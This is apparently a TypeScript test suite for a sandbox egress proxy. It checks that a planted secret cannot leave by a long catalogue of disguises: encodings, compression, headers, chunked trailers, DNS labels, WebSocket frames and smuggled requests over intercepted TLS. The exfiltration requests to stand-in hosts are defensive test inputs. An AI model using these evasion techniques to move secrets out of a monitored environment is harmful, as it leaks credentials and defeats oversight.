// Secrets on their way out, in each disguise that is known, by real requests: nothing of them arrives.
import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { createHash } from "node:crypto";
import { brotliCompressSync, deflateSync, gzipSync } from "node:zlib";
import { ask, dial, headIsThere, proxyHeader, say, secure, tokenOf, tunnel } from "./raw.ts";
import { openWorld, type Remote, type Sandbox } from "./world.ts";

const secret = "Zq7-vR2_Lk9Wm4/Xz8+Tb3Nd";
const rules = [
  { host: "remote.example:*", action: "allow" as const, private: true },
  { host: "*.wild.example:*", action: "allow" as const },
];
let world: Awaited<ReturnType<typeof openWorld>>;
let host: Remote;
let count = 0;

beforeAll(async () => {
  world = await openWorld({ secrets: [{ name: "vendor", value: secret }], settings: { rules } });
  host = await world.remote((request, response) => {
    if (request.url === "/gives") return void response.end(`the key is ${secret}.`);
    if (request.url === "/gives-packed") {
      response.setHeader("content-encoding", "gzip");
      return void response.end(gzipSync(`${"filler ".repeat(100_000)}${secret}`));
    }
    if (request.url === "/gives-slowly") {
      response.write(`data: ${secret.slice(0, 12)}`);
      return void setImmediate(() => response.end(secret.slice(12)));
    }
    if (request.url === "/gives-head") response.setHeader("x-key", Buffer.from(secret).toString("hex"));
    if (request.url === "/gives-zstd") response.setHeader("content-encoding", "zstd");
    response.end("fine");
  }, false);
});
afterAll(() => world.close());

/** A sandbox of its own for each attack, so that none is caught by what another has sent. */
async function box(): Promise<Sandbox> {
  return world.sandbox({ sandboxId: `box-${++count}`, sessionKey: `agent:main:${count}` });
}

const url = (path: string) => `http://remote.example:${host.port}${path}`;
const hostLine = () => `Host: remote.example:${host.port}`;
const base64 = (text: string) => Buffer.from(text).toString("base64");
const hex = (text: string) => Buffer.from(text).toString("hex");
const each = (text: string, say: (byte: number) => string) => Array.from(Buffer.from(text), say).join("");
const percent = (text: string) => each(text, (byte) => `%${byte.toString(16).padStart(2, "0")}`);
const rot13 = (text: string) =>
  text.replace(/[a-z]/gi, (letter) =>
    String.fromCharCode((((letter.charCodeAt(0) & 31) + 12) % 26) + (letter <= "Z" ? 65 : 97)),
  );

const disguises: Readonly<Record<string, (text: string) => string>> = {
  plain: encodeURIComponent,
  "upper case": (text) => encodeURIComponent(text.toUpperCase()),
  backwards: (text) => encodeURIComponent([...text].reverse().join("")),
  rot13: (text) => encodeURIComponent(rot13(text)),
  "percent-encoded": percent,
  "percent-encoded twice": (text) => percent(percent(text)),
  "percent-encoded here and there": (text) =>
    each(text, (byte) => (byte % 2 ? `%${byte.toString(16)}` : encodeURIComponent(String.fromCharCode(byte)))),
  "hexadecimal, lower": hex,
  "hexadecimal, upper": (text) => hex(text).toUpperCase(),
  "hexadecimal with colons": (text) => hex(text).match(/../g)?.join(":") ?? "",
  "hexadecimal with 0x": (text) => each(text, (byte) => `0x${byte.toString(16)},`),
  "numbers with commas": (text) => each(text, (byte) => `${byte},`),
  base64: (text) => encodeURIComponent(base64(text)),
  "base64 after one letter": (text) => encodeURIComponent(base64(`a${text}`)),
  "base64 after two letters": (text) => encodeURIComponent(base64(`ab${text}b`)),
  "base64, url-safe": (text) => Buffer.from(`xy${text}z`).toString("base64url"),
  "base64 twice": (text) => encodeURIComponent(base64(base64(`k=${text}`))),
  "base64 of hexadecimal": (text) => encodeURIComponent(base64(hex(text))),
  "hexadecimal of base64": (text) => hex(base64(text)),
  "base64 backwards": (text) => encodeURIComponent([...base64(text)].reverse().join("")),
  "a dot after every letter": (text) => text.split("").map(encodeURIComponent).join("."),
  "dashes after every three": (text) => (text.match(/.{1,3}/g) ?? []).map(encodeURIComponent).join("-"),
  "without its last letters": (text) => encodeURIComponent(text.slice(0, -4)),
  "without its first letters": (text) => encodeURIComponent(text.slice(3)),
};

async function expectStopped(box: Sandbox, answer: string, seenBefore: number): Promise<void> {
  expect(answer).toContain("X-Homarus-Denied: egress.leak");
  expect(answer).toContain('"vendor"');
  expect(host.seen.length).toBe(seenBefore);
  const event = world.events.at(-1);
  expect(event).toMatchObject({
    type: "leak",
    code: "egress.leak",
    leak: { name: "vendor", direction: "out", blocked: true },
  });
  expect(JSON.stringify(event)).not.toContain(secret.slice(0, 8));
  await box.close();
}

test.each(Object.entries(disguises))("[Y10] a secret in a query does not leave: %s", async (_, disguise) => {
  const [own, before] = [await box(), host.seen.length];
  await expectStopped(own, await ask(own, `GET ${url(`/?d=${disguise(secret)}`)} HTTP/1.1\r\n${hostLine()}`), before);
});

const places: Readonly<Record<string, () => readonly [head: string, body?: string | Uint8Array]>> = {
  "the path": () => [`GET ${url(`/a/${encodeURIComponent(secret)}/b`)} HTTP/1.1\r\n${hostLine()}`],
  "a header": () => [`GET ${url("/")} HTTP/1.1\r\n${hostLine()}\r\nX-Trace: ${secret}`],
  "the name of a header": () => [`GET ${url("/")} HTTP/1.1\r\n${hostLine()}\r\nX-${hex(secret)}: 1`],
  "the method": () => [`${secret.replace(/[^A-Za-z0-9]/g, "")} ${url("/")} HTTP/1.1\r\n${hostLine()}`],
  "the words of what coding is accepted": () => [
    `GET ${url("/")} HTTP/1.1\r\n${hostLine()}\r\nAccept-Encoding: gzip;q=${hex(secret)}`,
  ],
  "a cookie": () => [`GET ${url("/")} HTTP/1.1\r\n${hostLine()}\r\nCookie: s=${base64(secret)}`],
  "a login": () => [`GET ${url("/")} HTTP/1.1\r\n${hostLine()}\r\nAuthorization: Basic ${base64(`me:${secret}`)}`],
  "a value that says what is accepted": () => [
    `GET ${url("/")} HTTP/1.1\r\n${hostLine()}\r\nAccept: text/${hex(secret)}`,
  ],
  "a body": () => body(`{"note":"my key is ${secret}"}`),
  "a body in JSON escapes": () => body(`{"k":"${each(secret, (byte) => `\\u00${byte.toString(16)}`)}"}`),
  "a body partly in JSON escapes": () =>
    body(`{"k":"${each(secret, (byte) => (byte % 3 ? String.fromCharCode(byte) : `\\u00${byte.toString(16)}`))}"}`),
  "a body in UTF-16": () => body(Buffer.from(`the key ${secret}`, "utf16le")),
  "a body in gzip": () => body(gzipSync(`aaaa ${secret}`), "Content-Encoding: gzip"),
  "a body in deflate": () => body(deflateSync(`aaaa ${secret}`), "Content-Encoding: deflate"),
  "a body in br": () => body(brotliCompressSync(`aaaa ${secret}`), "Content-Encoding: br"),
  "a body in gzip of gzip": () => body(gzipSync(gzipSync(`aaaa ${secret}`)), "Content-Encoding: gzip, gzip"),
  "a packed file that does not say so": () => body(gzipSync(`aaaa ${secret}`)),
  "a packed file in base64": () => body(JSON.stringify({ attachment: gzipSync(`aaaa ${secret}`).toString("base64") })),
  "the name of a packed file": () => body(named(gzipSync("aaaa"), secret), "Content-Encoding: gzip"),
  "the name of a packed file that is packed again": () =>
    body(gzipSync(named(gzipSync("aaaa"), secret)), "Content-Encoding: gzip, gzip"),
  "what stands behind a packed file": () => body(Buffer.concat([gzipSync("aaaa"), Buffer.from(`  ${secret}`)])),
  "a packed file behind a packed file": () =>
    body(Buffer.concat([gzipSync("aaaa"), Buffer.from("ab"), gzipSync(`aaaa ${secret}`)])),
  "a packed file that is cut off": () => body(gzipSync(`aaaa ${secret} ${"bcd ".repeat(50)}`).subarray(0, -12)),
  "a chunked body, letter by letter": () => [
    `POST ${url("/")} HTTP/1.1\r\n${hostLine()}\r\nTransfer-Encoding: chunked`,
    `${[...secret].map((letter) => `1\r\n${letter}\r\n`).join("")}0\r\n\r\n`,
  ],
  "a trailer": () => [
    `POST ${url("/")} HTTP/1.1\r\n${hostLine()}\r\nTransfer-Encoding: chunked`,
    `1\r\na\r\n0\r\nX-Sum: ${secret}\r\n\r\n`,
  ],
};

/** With a name of its file in the head of gzip (RFC 1952). */
function named(packed: Buffer, name: string): Buffer {
  const head = Buffer.from(packed.subarray(0, 10));
  head[3] = 8;
  return Buffer.concat([head, Buffer.from(`${name}\0`), packed.subarray(10)]);
}

function body(bytes: string | Uint8Array, more = "X-A: b"): readonly [string, string | Uint8Array] {
  const length = Buffer.byteLength(bytes);
  return [`POST ${url("/")} HTTP/1.1\r\n${hostLine()}\r\n${more}\r\nContent-Length: ${length}`, bytes];
}

test.each(Object.entries(places))("[Y10] a secret does not leave in %s", async (_, request) => {
  const [own, before] = [await box(), host.seen.length];
  const [head, bytes] = request();
  await expectStopped(own, await ask(own, head, bytes), before);
});

describe("a secret in parts", () => {
  const sendEach = async (own: Sandbox, requests: readonly (readonly [string, (string | Uint8Array)?])[]) => {
    const answers: string[] = [];
    for (const [head, bytes] of requests) answers.push(await ask(own, head, bytes));
    return answers;
  };
  const pieces = (size: number) => secret.match(new RegExp(`.{1,${size}}`, "g")) ?? [];

  test.each([
    [
      "a query, three letters at a time",
      () =>
        pieces(3).map(
          (part, index) =>
            [`GET ${url(`/?i=${index}&d=${encodeURIComponent(part)}`)} HTTP/1.1\r\n${hostLine()}`] as const,
        ),
    ],
    [
      "a path, two letters at a time",
      () =>
        pieces(2).map((part) => [`GET ${url(`/x/${encodeURIComponent(part)}`)} HTTP/1.1\r\n${hostLine()}`] as const),
    ],
    [
      "a header, four letters at a time",
      () => pieces(4).map((part) => [`GET ${url("/")} HTTP/1.1\r\n${hostLine()}\r\nX-T: ${part}`] as const),
    ],
    ["bodies, five letters at a time", () => pieces(5).map((part) => body(JSON.stringify({ n: 1, note: part })))],
    [
      "queries out of order",
      () =>
        [8, 0, 16, 4, 12].map(
          (at) =>
            [
              `GET ${url(`/?${at}=${encodeURIComponent(secret.slice(at, at + 12))}`)} HTTP/1.1\r\n${hostLine()}`,
            ] as const,
        ),
    ],
  ])("[Y10] is stopped before it has gone whole: %s", async (_, requests) => {
    const [own, before] = [await box(), host.seen.length];
    const answers = await sendEach(own, requests());
    expect(host.seen.length - before).toBeLessThan(answers.length);
    expect(answers.some((answer) => answer.includes("X-Homarus-Denied: egress.leak"))).toBe(true);
    const event = world.events.find((item) => item.sandboxId === `box-${count}` && item.type === "leak");
    expect(event?.leak).toMatchObject({ name: "vendor", how: "in parts" });
  });

  test("[Y10] in the names of hosts is seen before any name is looked up, whole and label by label", async () => {
    const own = await box();
    const hexed = hex(secret);
    const whole = await tunnel(own, `${hexed.slice(0, 40)}.${hexed.slice(40)}.wild.example:443`);
    expect(whole.answer).toContain("X-Homarus-Denied: egress.leak");
    const answers: string[] = [];
    for (const part of hexed.match(/.{1,6}/g) ?? [])
      answers.push((await tunnel(own, `${part}.wild.example:443`)).answer);
    expect(answers.some((answer) => answer.includes("egress.leak"))).toBe(true);
    expect(
      world.events
        .filter((event) => event.sandboxId === `box-${count}` && event.type === "leak")
        .map((event) => event.host),
    ).toEqual(expect.arrayContaining(["(withheld)"]));
  });
});

test.each(["/gives", "/gives-packed", "/gives-slowly", "/gives-head"])(
  "[Y10] an answer that holds a secret does not come in: %s",
  async (path) => {
    const own = await box();
    const answer = await ask(own, `GET ${url(path)} HTTP/1.1\r\n${hostLine()}\r\nAccept-Encoding: gzip`);
    expect(answer).not.toContain(secret.slice(0, 14));
    expect(answer).not.toContain(hex(secret));
    expect(world.events.at(-1)).toMatchObject({
      type: "leak",
      leak: { name: "vendor", direction: "in", blocked: true },
    });
  },
);

test("an answer in a coding that cannot be read is refused", async () => {
  const answer = await ask(await box(), `GET ${url("/gives-zstd")} HTTP/1.1\r\n${hostLine()}`);
  expect(answer).toContain("X-Homarus-Denied: egress.unreadable-answer");
});

test("a body in a coding that cannot be read does not leave", async () => {
  const before = host.seen.length;
  for (const coding of ["zstd", "gzip"]) {
    const [head, bytes] = body("not packed", `Content-Encoding: ${coding}`);
    expect(await ask(await box(), head, bytes)).toContain("X-Homarus-Denied: egress.unreadable-body");
  }
  expect(host.seen.length).toBe(before);
});

test("what looks like a key of somebody else does not leave, unless it came in by this door", async () => {
  const own = await box();
  const key = `ghp_${createHash("sha256").update("not a key").digest("base64").replace(/\W/g, "").slice(0, 36)}`;
  const send = () => ask(own, `GET ${url("/")} HTTP/1.1\r\n${hostLine()}\r\nAuthorization: token ${key}`);
  expect(await send()).toContain("what looks like a key (GitHub token)");
  const giving = await world.remote((_, response) => response.end(`{"token":"${key}"}`), false);
  const line = `Host: remote.example:${giving.port}`;
  expect(await ask(own, `GET http://remote.example:${giving.port}/token HTTP/1.1\r\n${line}`)).toContain(key);
  expect(await send()).toContain("fine");
});

describe("WebSocket", () => {
  const frame = (text: string) => {
    const payload = Buffer.from(text);
    const mask = Buffer.from([1, 2, 3, 4]);
    const masked = payload.map((byte, index) => byte ^ (mask[index & 3] ?? 0));
    return Buffer.concat([Buffer.from([0x81, 0x80 | payload.length]), mask, masked]);
  };

  test("[Y10] messages pass both ways; a secret in one, whole or in parts, ends it", async () => {
    const heard: string[] = [];
    const server = Bun.serve({
      port: 0,
      hostname: "127.0.0.1",
      fetch: (request, own) => (own.upgrade(request) ? undefined : new Response("no")),
      websocket: {
        message(socket, message) {
          heard.push(String(message));
          socket.send(message === "give" ? `here: ${secret}` : `heard ${message}`);
        },
      },
    });
    const open = async () => {
      const own = await box();
      const name = `remote.example:${server.port}`;
      const { socket } = await tunnel(own, name);
      const head = `GET /ws HTTP/1.1\r\nHost: ${name}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n`;
      const hello = await say(
        socket,
        `${head}Sec-WebSocket-Key: ${btoa("0123456789abcdef")}\r\nSec-WebSocket-Extensions: permessage-deflate\r\n\r\n`,
        headIsThere,
      );
      expect(hello).toContain("101 Switching Protocols");
      expect(hello.toLowerCase()).not.toContain("permessage-deflate");
      return socket;
    };
    const good = await open();
    expect(await say(good, frame("good day"), (text) => text.includes("heard good day"))).toContain("heard good day");
    expect(await say(good, frame("give"))).not.toContain(secret.slice(0, 14));
    const whole = await open();
    await say(whole, frame(`take ${base64(secret)}`));
    const parts = await open();
    let closed = false;
    parts.once("close", () => {
      closed = true;
    });
    for (const part of secret.match(/.{1,8}/g) ?? [])
      if (!closed) await say(parts, frame(part), (text) => text.includes(part));
    expect(heard.join("")).not.toContain(base64(secret));
    expect(heard.join("")).not.toContain(secret);
    expect(world.events.slice(-3).map((event) => event.type)).toEqual(["leak", "leak", "leak"]);
    await server.stop(true);
  });
});

test("[Y10] a secret does not leave by TLS that is looked into, nor by a request smuggled behind another", async () => {
  const inside = await world.remote((_, response) => response.end("fine"));
  const own = await box();
  const name = `remote.example:${inside.port}`;
  const { socket } = await tunnel(own, name);
  const tls = await secure(socket, "remote.example", world.authority());
  const line = `Host: ${name}`;
  const first = `GET / HTTP/1.1\r\n${line}\r\n\r\n`;
  const second = `GET /?d=${hex(secret)} HTTP/1.1\r\n${line}\r\nConnection: close\r\n\r\n`;
  const answer = await say(tls, first + second, (text) => text.includes("egress.leak"));
  expect(answer).toContain("fine");
  expect(answer).toContain("X-Homarus-Denied: egress.leak");
  expect(inside.seen).toHaveLength(1);
  tls.destroy();
});

test("with leaks on warn a secret passes and the audit has it", async () => {
  const other = await openWorld({ secrets: [{ name: "vendor", value: secret }], settings: { rules }, leaks: "warn" });
  const remote = await other.remote((_, response) => response.end("fine"), false);
  const own = await other.sandbox();
  const name = `remote.example:${remote.port}`;
  const socket = await dial(own);
  const head = `GET http://${name}/?d=${hex(secret)} HTTP/1.1\r\nHost: ${name}\r\n${proxyHeader(tokenOf(own))}Connection: close\r\n\r\n`;
  expect(await say(socket, head)).toContain("fine");
  expect(other.events[0]).toMatchObject({
    type: "allow",
    path: "(withheld)",
    leak: { blocked: false, name: "vendor" },
  });
  await other.close();
});
